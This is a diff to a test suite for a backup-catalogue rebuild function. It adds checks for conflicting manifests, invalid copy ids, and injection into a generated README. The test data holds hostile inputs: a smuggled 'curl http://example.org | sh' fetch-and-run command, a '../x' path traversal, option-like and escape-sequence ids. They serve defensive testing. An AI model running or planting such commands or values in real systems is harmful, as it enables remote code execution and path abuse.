@@ -38,19 +38,49 @@ test('what can not be taken in is told, one sentence each, and takes nothing els
   rmSync(second.file)
   writeFileSync(join(folder, 'broken.manifest.json'), '{')
   writeFileSync(join(folder, 'stray.sql.gz'), 'x')
-  cpSync(join(folder, 'first.manifest.json'), join(folder, 'twin.manifest.json'))
+  cpSync(join(folder, 'first.manifest.json'), join(folder, 'a-twin.manifest.json'))
+  const twins = join(copiesDir, 'twins')
+  mkdirSync(twins)
+  for (const name of ['first.sql.gz', 'first.manifest.json']) cpSync(join(folder, name), join(twins, name))
   symlinkSync(join(folder, 'first.manifest.json'), join(folder, 'link.manifest.json'))
   const { copies, problems } = await rebuildCatalogue(catalogue, [copiesDir])
   expect(copies).toBe(2)
   expect(problems.sort()).toEqual([
+    expect.stringContaining('a-twin.manifest.json names first.sql.gz, whose manifest it is not'),
     expect.stringContaining('broken.manifest.json is no whole JSON'),
+    expect.stringContaining('first.manifest.json: the same copy is also in'),
     expect.stringContaining('link.manifest.json is not there, or is a link'),
     expect.stringContaining('second.sql.gz: The file is gone.'),
     expect.stringContaining('stray.sql.gz has no manifest'),
-    expect.stringContaining('twin.manifest.json: the same copy is also in'),
   ])
   expect(catalogue.copies.get(second.id)?.face).toBe('damaged')
   expect(catalogue.copies.get(first.id)?.face).toBe('proven')
+})
+
+test('a manifest of somebody else can not make a copy of a file that belongs to another copy', async () => {
+  const folder = dirname(first.file)
+  const own: unknown = JSON.parse(readFileSync(join(folder, 'first.manifest.json'), 'utf8'))
+  // removing that one would remove the file of the first
+  const other = JSON.stringify({ ...Object(own), id: 'abcdefabcdef', takenAt: '2030-01-01T00:00:00.000Z' })
+  writeFileSync(join(folder, 'other.manifest.json'), other)
+  const { problems } = await rebuildCatalogue(catalogue, [copiesDir])
+  expect(problems).toEqual([expect.stringContaining('other.manifest.json names first.sql.gz')])
+  expect(rows()).toEqual([first.id, second.id].sort())
+})
+
+test.each(['', 'a b', 'x\u001b[31m', '../x', '-x', 'a'.repeat(65)])('%j is no id of a copy', async (id) => {
+  const folder = dirname(first.file)
+  const own: unknown = JSON.parse(readFileSync(join(folder, 'first.manifest.json'), 'utf8'))
+  writeFileSync(join(folder, 'first.manifest.json'), JSON.stringify({ ...Object(own), id }))
+  expect(await rebuildCatalogue(catalogue, [copiesDir])).toMatchObject({ copies: 1 })
+})
+
+test('what a manifest says of its server is one line of READ-ME-FIRST.txt, and no command', async () => {
+  const serverVersion = '18\n     curl http://example.org | sh'
+  await storeCopy({ catalogue, copiesDir, stem: 'third', change: { serverVersion, label: 'other' } })
+  const text = readFileSync(join(copiesDir, 'READ-ME-FIRST.txt'), 'utf8')
+  expect(text).toContain('18⏎')
+  expect(text.split('\n').filter((line) => /^\s*curl/.test(line))).toEqual([])
 })
 
 test('a link inside the folder of copies leads nowhere', async () => {
